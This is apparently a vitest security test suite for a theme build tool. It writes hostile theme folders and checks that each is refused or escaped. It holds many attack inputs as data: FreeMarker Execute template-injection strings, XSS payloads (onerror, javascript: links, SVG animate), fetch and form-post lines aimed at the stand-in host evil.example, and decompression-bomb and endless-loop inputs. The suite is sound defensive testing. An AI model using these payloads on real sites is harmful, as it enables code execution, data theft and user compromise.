/**
 * Hostile theme folders, as an attacker would write them: each is built with `citelibre theme build` and
 * must either be refused (exit code, a message naming the file and the fix) or come out harmless (the
 * payload escaped). Either way, nothing of the payload may be found, as written, in any output file.
 */
import { execa } from "execa";
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { copyTheme, runCli } from "../../helpers/themes.js";

type Mutation = (dir: string) => Promise<void>;

const write = (file: string, content: string | Buffer): Mutation => async (dir) => {
  await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
  await writeFile(path.join(dir, file), content);
};
const yaml = (change: (text: string) => string): Mutation => async (dir) => {
  const p = path.join(dir, "theme.yaml");
  await writeFile(p, change(await readFile(p, "utf8")));
};
const svg = (inner: string, rootAttributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${rootAttributes}>${inner}<rect width="10" height="10"/></svg>`;
const fifo = (file: string): Mutation => async (dir) => {
  await rm(path.join(dir, file), { force: true });
  await execa("mkfifo", [path.join(dir, file)]);
};

interface HostileCase {
  name: string;
  mutate: Mutation;
  /** Exit code of `theme build`: 1 refused, 2 refused usage, 0 built harmless. */
  code: number;
  expected: RegExp[];
  /** Text that must not appear, as written, in any output file. */
  payload: string;
}

let bigPngDataUri = "";

const cases: HostileCase[] = [
  // Templates: data, not code.
  { name: "FreeMarker Execute in a template", mutate: write("templates/menu_footer.hbs", '<#assign ex = "freemarker.template.utility.Execute"?new()>${ex("id")}\n'), code: 1, expected: [/templates\/menu_footer\.hbs:1:1 holds FreeMarker or Lutece syntax \(<#\)/, /fix: write plain HTML/], payload: "utility.Execute" },
  { name: "FreeMarker assembled across lines with handlebars whitespace control", mutate: write("templates/main_nav.hbs", "<div>$\n{{~!-- split --~}}{ex(\"id\")}</div>\n"), code: 1, expected: [/templates\/main_nav\.hbs renders FreeMarker or Lutece syntax \(\$\{\)/], payload: 'ex("id")' },
  { name: "FreeMarker square-bracket syntax", mutate: write("templates/content_header.hbs", '[#assign x = "freemarker.template.utility.ObjectConstructor"?new()]\n'), code: 1, expected: [/content_header\.hbs:1:1 holds FreeMarker or Lutece syntax \(\[#\)/], payload: "ObjectConstructor" },
  { name: "#dskey expansion in a template", mutate: write("templates/menu_footer.hbs", "<p>#dskey{core.crypto.key}</p>\n"), code: 1, expected: [/holds FreeMarker or Lutece syntax \(#dskey\{\)/], payload: "core.crypto.key" },
  { name: "script element from another host in a template", mutate: write("templates/header_css.hbs", '<link rel="stylesheet" href="{{cssHref}}"><script src="https://evil.example/x.js"></script>\n'), code: 1, expected: [/header_css\.hbs renders a <script> element/], payload: "evil.example" },
  { name: "tracking pixel in a template", mutate: write("templates/menu_footer.hbs", '<img src="https://evil.example/pixel.gif" alt="">\n'), code: 1, expected: [/renders src="https:\/\/evil\.example\/pixel\.gif" on <img>: .*third-party request/], payload: "evil.example" },
  { name: "event handler in a template", mutate: write("templates/main_nav.hbs", '<a href="#" onclick="fetch(\'//evil.example\')">x</a>\n'), code: 1, expected: [/renders an event-handler attribute onclick on <a>/], payload: "evil.example" },
  { name: "javascript: link written with an entity newline", mutate: write("templates/main_nav.hbs", '<a href="java&#10;script:alert(document.domain)">x</a>\n'), code: 1, expected: [/renders a javascript: value in href on <a>/], payload: "alert(document.domain)" },
  { name: "style attribute loading from another host", mutate: write("templates/content_header.hbs", '<div style="background: u\\72l(https://evil.example/t.png)"></div>\n'), code: 1, expected: [/renders a style attribute on <div> that loads url\(https:\/\/evil\.example\/t\.png\)/], payload: "evil.example" },
  { name: "meta refresh in a template", mutate: write("templates/header_css.hbs", '<meta http-equiv="refresh" content="0;url=https://evil.example">\n'), code: 1, expected: [/renders <meta http-equiv>/], payload: "evil.example" },
  { name: "iframe in a template", mutate: write("templates/menu_footer.hbs", '<iframe src="https://evil.example"></iframe>\n'), code: 1, expected: [/renders a <iframe> element/], payload: "evil.example" },
  { name: "an attribute left open at the end of a template", mutate: write("templates/main_nav.hbs", "<nav>{{displayName}}</nav><img src=x onerror=alert(document.domain) x="), code: 1, expected: [/renders HTML left open at its end \(eof-in-tag\)/], payload: "alert(document.domain)" },
  { name: "a comment left open at the end of a template", mutate: write("templates/menu_footer.hbs", "<p>{{displayName}}</p><!-- the rest of the page disappears"), code: 1, expected: [/left open at its end \(eof-in-comment\)/], payload: "the rest of the page disappears" },
  { name: "an <xmp> that would swallow the page", mutate: write("templates/menu_footer.hbs", "<xmp>"), code: 1, expected: [/renders a <xmp> element/], payload: "<xmp>" },
  { name: "a tab inside a protocol-relative URL", mutate: write("templates/menu_footer.hbs", '<img src="/&#9;/evil.example/p.png" alt="">\n'), code: 1, expected: [/renders src=".*evil\.example\/p\.png" on <img>: .*another host/], payload: "evil.example" },
  { name: "imagesrcset on a preload link", mutate: write("templates/header_css.hbs", '<link rel="preload" as="image" href="a.png" imagesrcset="https://evil.example/x.png 1x">\n'), code: 1, expected: [/renders imagesrcset="https:\/\/evil\.example\/x\.png" on <link>/], payload: "evil.example" },
  { name: "image-set with a nested url() and a host string in a style attribute", mutate: write("templates/content_header.hbs", '<div style=\'background-image: image-set(url(a.png) 5x, "https://evil.example/b.png" 1x)\'></div>\n'), code: 1, expected: [/renders a style attribute on <div> that loads .*evil\.example\/b\.png/], payload: "evil.example" },
  { name: "a control character before a protocol-relative url()", mutate: write("templates/content_header.hbs", '<div style="background: url(\\1//evil.example/a.png)"></div>\n'), code: 1, expected: [/renders a style attribute on <div> that loads url\(/], payload: "evil.example" },
  { name: "loops nested until the build would hang", mutate: write("templates/menu_footer.hbs", `${"{{#each @root.links}}".repeat(12)}x${"{{/each}}".repeat(12)}\n`), code: 1, expected: [/menu_footer\.hbs template error: the template repeats its loops more than 10000 times/], payload: "" },
  { name: "an entity where a link's scheme ends", mutate: yaml((t) => t.replace("url: https://www.exampleville.example/mentions-legales", 'url: "javascript&colon;alert(1)"')), code: 1, expected: [/links\.legal\.url: must be an https:\/\/ or http:\/\/ address/], payload: "alert(1)" },
  { name: "a host string read through var() in image-set", mutate: write("overrides.scss", '.a { --u: "https://evil.example/a.png"; background-image: image-set(var(--u) 1x); }\n'), code: 1, expected: [/overrides\.scss .*evil\.example\/a\.png.*points outside the theme/], payload: "evil.example" },
  { name: "a comment marker inside a string in an SVG <style>", mutate: write("logo.svg", svg('<style>text{font-family:"/*"}@font-face{font-family:e;src:url(https://evil.example/f.woff)}text{font-family:e,"*/"}</style>')), code: 1, expected: [/logo\.svg has a <style> block that loads url\(https:\/\/evil\.example\/f\.woff\)/], payload: "evil.example" },
  { name: "a logo a thousand times wider than high", mutate: write("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10000 1"><rect width="10" height="1"/></svg>'), code: 1, expected: [/logo\.svg is 10000 by 1, more than 100 times wider than high/], payload: "" },
  // theme.yaml values reach pages through the datastore: escaped, never refused.
  { name: "stored XSS in a footer title", mutate: yaml((t) => t.replace(/footer:\n {2}title: .*\n/, 'footer:\n  title: "<img src=x onerror=alert(1)>"\n')), code: 0, expected: [/Built theme exampleville/], payload: "<img src=x onerror" },
  { name: "#dskey disclosure in a link label", mutate: yaml((t) => t.replace(/label: .*/, 'label: "#dskey{core.crypto.key}"')), code: 0, expected: [/Built theme exampleville/], payload: "#dskey{core.crypto.key}" },
  // SVG logos: an allow-list, the root element included.
  { name: "event handler on the root <svg>", mutate: write("logo.svg", svg("", ' onload="fetch(\'https://evil.example\')"')), code: 1, expected: [/logo\.svg has an event handler attribute onload on <svg>/], payload: "evil.example" },
  { name: "style on the root <svg> loading from another host", mutate: write("logo.svg", svg("", ' style="background:url(https://evil.example/bg.png)"')), code: 1, expected: [/logo\.svg has a style attribute that loads url\(https:\/\/evil\.example\/bg\.png\) on <svg>/], payload: "evil.example" },
  { name: "animate setting a javascript: href", mutate: write("logo.svg", svg('<a><animate attributeName="href" values="#a;javascript:alert(1)"/><text>x</text></a>')), code: 1, expected: [/logo\.svg contains a <(a|animate)> element/], payload: "javascript:alert(1)" },
  { name: "set with an encoded javascript: URL", mutate: write("logo.svg", svg('<set attributeName="href" to="java&#10;script:alert(1)"/>')), code: 1, expected: [/contains a <set> element, which a static logo does not need/], payload: "script:alert(1)" },
  { name: "XHTML form inside the SVG", mutate: write("logo.svg", svg('<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/steal"><input name="p"/></form>')), code: 1, expected: [/contains a <form> element from another namespace \(http:\/\/www\.w3\.org\/1999\/xhtml\)/], payload: "evil.example" },
  { name: "fill pointing to another host", mutate: write("logo.svg", svg('<rect width="5" height="5" fill="url(https://evil.example/p.svg#g)"/>')), code: 1, expected: [/has a fill value that loads url\(https:\/\/evil\.example\/p\.svg#g\) on <rect>/], payload: "evil.example" },
  { name: "filter pointing to another host", mutate: write("logo.svg", svg('<g filter="url(//evil.example/f.svg#f)"/>')), code: 1, expected: [/has a filter value that loads url\(\/\/evil\.example\/f\.svg#f\)/], payload: "evil.example" },
  { name: "CSS-escaped @import in an SVG <style>", mutate: write("logo.svg", svg("<style>@\\69mport url(https://evil.example/x.css);</style>")), code: 1, expected: [/has a <style> block that imports another stylesheet \(@import\)/], payload: "evil.example" },
  { name: "CSS-escaped url( in an SVG <style>", mutate: write("logo.svg", svg("<style>rect { fill: u\\72l(https://evil.example/p) }</style>")), code: 1, expected: [/has a <style> block that loads url\(https:\/\/evil\.example\/p\)/], payload: "evil.example" },
  { name: "use of an external sprite", mutate: write("logo.svg", svg('<use href="https://evil.example/sprite.svg#a"/>')), code: 1, expected: [/references an external resource \(https:\/\/evil\.example\/sprite\.svg#a\) on <use>/], payload: "evil.example" },
  { name: "a declared width of 200000", mutate: write("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="200000" height="100"><rect width="10" height="10"/></svg>'), code: 1, expected: [/logo\.svg declares a size of 200000 .*over the 10000 limit/], payload: "200000" },
  { name: "a 10000x10000 PNG embedded in the logo (decompression bomb)", mutate: async (dir) => write("logo.svg", svg(`<image width="10" height="10" href="${bigPngDataUri}"/>`))(dir), code: 1, expected: [/logo\.svg embeds an image that is 10000x10000 pixels, over the 4 megapixel limit/], payload: "iVBORw0KGgo" },
  // overrides.scss: the guard reads the compiled, parsed stylesheet.
  { name: "a closing parenthesis inside a quoted URL", mutate: write("overrides.scss", 'body { background: url("https://evil.example/a)b.png"); }\n'), code: 1, expected: [/overrides\.scss url\(https:\/\/evil\.example\/a\)b\.png\): points outside the theme/], payload: "evil.example" },
  { name: "image-set with a URL string", mutate: write("overrides.scss", 'body { background-image: image-set("https://evil.example/x.png" 1x); }\n'), code: 1, expected: [/overrides\.scss .*image-set\("https:\/\/evil\.example\/x\.png"\)/], payload: "evil.example" },
  { name: "a quote inside a quoted URL", mutate: write("overrides.scss", "body { background: url(\"https://evil.example/x'y.png\"); }\n"), code: 1, expected: [/overrides\.scss url\(https:\/\/evil\.example\/x'y\.png\): points outside the theme/], payload: "evil.example" },
  { name: "a URL hidden in a custom property", mutate: write("overrides.scss", ':root { --tracker: image-set("https://evil.example/t.png" 1x); }\nbody { background: var(--tracker); }\n'), code: 1, expected: [/image-set\("https:\/\/evil\.example\/t\.png"\): points outside the theme/], payload: "evil.example" },
  { name: "a font from another host by a protocol-relative URL", mutate: write("overrides.scss", '@font-face { font-family: X; src: url("//evil.example/x.woff2"); }\n'), code: 1, expected: [/url\(\/\/evil\.example\/x\.woff2\): points outside the theme/], payload: "evil.example" },
  // Limits: never a hang, a flood or a stack trace.
  { name: "an endless @while", mutate: write("overrides.scss", "$i: 0;\n@while true { $i: $i + 1; }\n"), code: 1, expected: [/overrides\.scss took longer than 2 s to compile, and was stopped/], payload: "@while" },
  { name: "a FIFO as overrides.scss", mutate: fifo("overrides.scss"), code: 1, expected: [/overrides\.scss is not a regular file \(a FIFO, socket or device\)/], payload: "" },
  { name: "a FIFO as the logo", mutate: fifo("logo.svg"), code: 1, expected: [/logo\.svg is not a regular file \(a FIFO, socket or device\)/], payload: "" },
  { name: "templates as a file", mutate: write("templates", "not a folder"), code: 1, expected: [/templates is not a folder/], payload: "" },
  {
    name: "a templates folder of 5000 entries",
    mutate: async (dir) => {
      await mkdir(path.join(dir, "templates"));
      await Promise.all(Array.from({ length: 5000 }, (_v, i) => writeFile(path.join(dir, "templates", `t${i}.hbs`), "x")));
    },
    code: 1,
    expected: [/templates holds 5000 entries; there are only 4 hooks/],
    payload: "",
  },
];

/** Every output file's bytes, as text. */
async function outputs(dir: string): Promise<Array<{ file: string; text: string }>> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  const files = entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
  return Promise.all(files.map(async (file) => ({ file, text: (await readFile(file)).toString("latin1") })));
}

describe("theme build on hostile theme folders", () => {
  const previousTimeout = process.env.CITELIBRE_SASS_TIMEOUT;
  beforeAll(async () => {
    process.env.CITELIBRE_SASS_TIMEOUT = "2";
    const png = await sharp({ create: { width: 10000, height: 10000, channels: 3, background: "#336699" } }).png({ compressionLevel: 9 }).toBuffer();
    bigPngDataUri = `data:image/png;base64,${png.toString("base64")}`;
  }, 60_000);
  afterAll(() => {
    if (previousTimeout === undefined) delete process.env.CITELIBRE_SASS_TIMEOUT;
    else process.env.CITELIBRE_SASS_TIMEOUT = previousTimeout;
  });

  it(`has at least 25 cases (${cases.length})`, () => {
    expect(cases.length).toBeGreaterThanOrEqual(25);
  });

  it.each(cases)("$name", async ({ mutate, code, expected, payload }) => {
    const theme = await copyTheme("exampleville");
    const out = path.join(theme.root, "out");
    try {
      await mutate(theme.dir);
      const started = performance.now();
      const r = await runCli(["theme", "build", theme.dir, "--out", out]);
      const text = r.stdout + r.stderr;
      expect(r.code, text).toBe(code);
      for (const pattern of expected) expect(text).toMatch(pattern);
      if (code !== 0) expect(text).toMatch(/fix: /);
      expect(text).not.toMatch(/\n\s+at .*\(.*:\d+:\d+\)/);
      expect(performance.now() - started).toBeLessThan(15_000);
      const written = await outputs(out);
      expect(written.length > 0).toBe(code === 0);
      if (payload) for (const { file, text: content } of written) expect(content.includes(payload), `${payload} in ${file}`).toBe(false);
    } finally {
      await theme.cleanup();
    }
  }, 30_000);

  it("never replaces an output folder it did not write", async () => {
    const theme = await copyTheme("exampleville");
    const out = await mkdtemp(path.join(tmpdir(), "citelibre-work-"));
    try {
      await writeFile(path.join(out, "precious.txt"), "a city's own notes");
      const r = await runCli(["theme", "build", theme.dir, "--out", out]);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/--out .* already holds 1 entry that this tool did not write .*nothing was changed/);
      expect(await readFile(path.join(out, "precious.txt"), "utf8")).toBe("a city's own notes");
      // Its own output it replaces, as before.
      const fresh = path.join(out, "overlay");
      expect((await runCli(["theme", "build", theme.dir, "--out", fresh])).code).toBe(0);
      expect((await runCli(["theme", "build", theme.dir, "--out", fresh])).code).toBe(0);
    } finally {
      await theme.cleanup();
      await rm(out, { recursive: true, force: true });
    }
  });
});
